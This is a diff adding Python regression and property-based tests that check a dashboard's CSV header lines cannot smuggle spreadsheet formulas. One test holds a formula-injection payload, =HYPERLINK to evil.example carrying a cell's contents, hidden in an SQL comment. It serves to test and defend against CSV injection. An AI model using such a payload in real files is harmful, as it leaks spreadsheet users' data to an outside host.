@@ -88,3 +88,29 @@ def test_any_text_is_safe_and_recoverable(cell: str) -> None:
     assert out in (cell, "'" + cell)
     rows = read_back(to_csv_bytes(pd.DataFrame({"c": [cell]})))
     assert rows[1:] == [[out]]
+
+
+# ---------------------------------------------------------------- issue 14: the title lines
+
+
+def test_sql_title_line_cannot_hold_a_formula() -> None:
+    """The issue's query: its comment smuggled `=HYPERLINK` and `@SUM` cells into the title line."""
+    from ctdash.filters import Filters
+    from ctdash.ui import csv_with_header
+
+    sql = 'SELECT count(*) AS n FROM facts --,=HYPERLINK("http://evil.example/?"&A5),@SUM(1+1)'
+    rows = read_back(csv_with_header(pd.DataFrame({"n": [3]}), Filters(), f"SQL: {sql}"))
+    assert rows[0] == [f"# ctdash: SQL: {sql}"]
+    assert [len(r) for r in rows[:3]] == [1, 1, 1] and rows[3:] == [["n"], ["3"]]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=60), max_size=4))
+def test_every_header_line_is_one_safe_cell(lines: list[str]) -> None:
+    from ctdash.safecsv import header_lines
+
+    rows = list(csv.reader(io.StringIO(header_lines(lines), newline="")))
+    assert len(rows) == len(lines)
+    for row, line in zip(rows, lines, strict=True):
+        assert len(row) == 1 and not is_dangerous(row[0])
+        assert row[0] == neutralise(" ".join(line.split()))
